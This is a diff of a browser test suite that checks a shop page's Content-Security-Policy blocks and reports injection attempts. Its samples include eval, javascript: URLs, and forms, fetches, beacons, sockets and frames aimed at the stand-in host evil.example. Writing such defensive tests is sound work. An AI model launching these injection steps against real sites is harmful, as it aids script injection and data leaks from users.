@@ -4,13 +4,13 @@ import {expect, test} from '../support/test';
 
 /**
  * What an injection would try, on the page it got into: each is refused by the Content-Security-Policy, and the refusal is
- * reported to the page.
+ * reported to the page. What would be fetched from elsewhere is refused before it leaves the browser.
  */
 
 interface Attempt {
   /** Which directive refuses it. */
   directive: string;
-  /** Tried in the page; runs nothing that the test would miss: `window.owned` says so. */
+  /** Tried in the page by itself, since what a test evaluates there may evaluate more; `window.owned` says that it ran. */
   attempt: () => void;
 }
 
@@ -38,12 +38,47 @@ const ATTEMPTS: Record<string, Attempt> = {
       document.body.append(script);
     },
   },
+  'a script from a CDN that sells to everyone': {
+    directive: 'script-src-elem',
+    attempt() {
+      const script = document.createElement('script');
+      script.src = 'https://cdn.shopify.com/owned.js';
+      document.body.append(script);
+    },
+  },
+  'a script as an address': {
+    directive: 'script-src-elem',
+    attempt() {
+      location.href = 'javascript:window.owned = true';
+    },
+  },
+  eval: {
+    directive: 'script-src',
+    attempt: () => void (0, eval)('window.owned = true'),
+  },
+  'new Function': {
+    directive: 'script-src',
+    attempt: () => void new Function('window.owned = true')(),
+  },
+  'a worker': {
+    directive: 'worker-src',
+    attempt: () => void new Worker(URL.createObjectURL(new Blob(['close()']))),
+  },
   'a style element': {
     directive: 'style-src-elem',
     attempt() {
       const style = document.createElement('style');
       style.textContent = 'body{display:none}';
       document.body.append(style);
+    },
+  },
+  'a style sheet from elsewhere': {
+    directive: 'style-src-elem',
+    attempt() {
+      const link = document.createElement('link');
+      link.rel = 'stylesheet';
+      link.href = 'https://evil.example/owned.css';
+      document.head.append(link);
     },
   },
   'another base': {
@@ -54,9 +89,53 @@ const ATTEMPTS: Record<string, Attempt> = {
       document.head.append(base);
     },
   },
+  'a form to elsewhere': {
+    directive: 'form-action',
+    attempt() {
+      const form = document.createElement('form');
+      form.method = 'post';
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  },
+  'a picture from elsewhere': {
+    directive: 'img-src',
+    attempt() {
+      new Image().src = 'https://evil.example/owned.png';
+    },
+  },
+  'a request to elsewhere': {
+    directive: 'connect-src',
+    attempt: () => void fetch('https://evil.example/').catch(() => {}),
+  },
+  'a beacon to elsewhere': {
+    directive: 'connect-src',
+    attempt: () => void navigator.sendBeacon('https://evil.example/'),
+  },
+  'a socket to elsewhere': {
+    directive: 'connect-src',
+    attempt: () => void new WebSocket('wss://evil.example/'),
+  },
+  'a plug-in': {
+    directive: 'object-src',
+    attempt() {
+      const plugIn = document.createElement('object');
+      plugIn.data = 'https://evil.example/owned';
+      document.body.append(plugIn);
+    },
+  },
+  'a frame': {
+    directive: 'frame-src',
+    attempt() {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+  },
 };
 
-/** Directives that refused something since the page was opened. */
+/** Takes what was refused since it was last asked: the directives that refused. */
 async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const refused: string[] = [];
@@ -65,20 +144,44 @@ async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
       if (disposition === 'enforce') refused.push(effectiveDirective);
     });
   });
-  return () => page.evaluate(() => (window as never as {refused: string[]}).refused);
+  return () =>
+    page.evaluate(() => (window as never as {refused: string[]}).refused.splice(0));
 }
 
-for (const [name, {directive, attempt}] of Object.entries(ATTEMPTS)) {
-  test(`the policy refuses ${name}, and reports it`, async ({page, messages}) => {
-    messages.expect(/Content Security Policy/);
-    const refusals = await watchRefusals(page);
-    await page.goto('/products/derby-night-tee');
-    await page.waitForLoadState('networkidle');
-    expect(await refusals()).toEqual([]);
-    await page.evaluate(attempt);
-    await expect.poll(refusals).toContain(directive);
-    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
-    await expect(page.getByRole('heading', {level: 1})).toBeVisible();
-    expect(new URL(page.url()).pathname).toBe('/products/derby-night-tee');
-  });
+/** The source of a function, in whichever form it was written. */
+function asExpression(attempt: () => void): string {
+  const source = attempt.toString();
+  return source.startsWith('attempt(') ? `function ${source}` : source;
 }
+
+test('the policy refuses what an injection would try, and reports each attempt', async ({
+  page,
+  messages,
+}) => {
+  messages.expect(/Content Security Policy/);
+  messages.expect(
+    /leaves this machine: https:\/\/(?:cdn\.shopify\.com|evil\.example)\/owned/,
+  );
+  const answered: string[] = [];
+  page.on('response', (response) => answered.push(new URL(response.url()).hostname));
+  const refusals = await watchRefusals(page);
+  await page.goto('/products/derby-night-tee');
+  await page.waitForLoadState('networkidle');
+  expect(await refusals()).toEqual([]);
+  for (const [name, {directive, attempt}] of Object.entries(ATTEMPTS)) {
+    await test.step(name, async () => {
+      await page.evaluate(`setTimeout(${asExpression(attempt)})`);
+      await expect.poll(refusals, name).toContain(directive);
+      expect(await page.evaluate(() => 'owned' in window), name).toBe(false);
+    });
+  }
+  expect(answered.filter((host) => !['localhost', '127.0.0.1'].includes(host))).toEqual(
+    [],
+  );
+  // By itself: Playwright takes what was refused for a navigation that goes on, and waits for its end.
+  const left = await page.evaluate(() => ({
+    path: location.pathname,
+    isWhole: document.querySelector('h1')?.checkVisibility(),
+  }));
+  expect(left).toEqual({path: '/products/derby-night-tee', isWhole: true});
+});
